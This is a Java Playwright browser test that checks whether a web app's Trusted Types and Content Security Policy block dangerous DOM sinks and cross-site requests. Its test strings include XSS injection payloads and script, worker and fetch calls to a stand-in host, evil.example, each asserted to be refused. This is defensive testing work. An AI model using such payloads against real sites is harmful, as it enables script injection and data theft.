package org.caucus.e2e.browser;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Page;
import com.microsoft.playwright.Request;
import java.util.List;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/** The app as built lives under its own policy, and what got in would find every sink shut. */
@Tag(OnStage.KEEPS_PROGRAM)
class TrustedTypesTest extends OnStage {
  @Test
  void everyPlaceOpensWithoutAComplaintAndAsksNobodyElse() {
    try (Visitor amina = stage.seated("amina")) {
      Set<String> asked = ConcurrentHashMap.newKeySet();
      amina.page().onRequest((Request request) -> asked.add(request.url()));
      for (String place :
          List.of(
              "", "/lists/coalition", "/trackers/COP", "/updates", "/actions", "/organisations")) {
        amina.go(Visitor.WORKSPACE + place);
        assertThat(amina.complaints()).as(place).isEmpty();
      }
      assertThat(asked).hasSizeGreaterThan(10).allMatch(url -> url.startsWith(stage.base()));
    }
  }

  @Test
  void noTextBecomesMarkupOrScript() {
    try (Visitor amina = stage.seated("amina")) {
      amina.go(Visitor.WORKSPACE);
      for (String sink :
          List.of(
              "document.body.innerHTML = '<img src=x onerror=stolen=1>'",
              "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
              "document.write('<b>x</b>')",
              "document.createElement('iframe').srcdoc = '<b>x</b>'",
              "document.createElement('script').src = 'https://evil.example/x.js'",
              "document.createElement('script').text = 'stolen = 1'",
              "new DOMParser().parseFromString('<b>x</b>', 'text/html')",
              "new Worker('https://evil.example/x.js')",
              "setTimeout('stolen = 1', 0)",
              "trustedTypes.createPolicy('evil', { createHTML: x => x })",
              "trustedTypes.createPolicy('default', { createHTML: x => x })")) {
        assertThat(refused(amina.page(), sink)).as(sink).isIn("TypeError", "SecurityError");
      }
      assertThat(amina.page().evaluate("() => typeof stolen")).isEqualTo("undefined");
      assertThat(amina.complaints()).as("each is reported").isNotEmpty();
    }
  }

  @Test
  void nothingLeavesForAnotherSite() {
    try (Visitor amina = stage.seated("amina")) {
      amina.go(Visitor.WORKSPACE);
      String fetched =
          (String)
              amina
                  .page()
                  .evaluate("() => fetch('https://evil.example/').then(() => 'sent', e => e.name)");
      assertThat(fetched).isEqualTo("TypeError");
      assertThat(amina.complaints()).anyMatch(c -> c.contains("Content Security Policy"));
    }
  }

  private static Object refused(Page page, String sink) {
    return page.evaluate(
        "() => { try { " + sink + "; return 'done' } catch (e) { return e.name } }");
  }
}
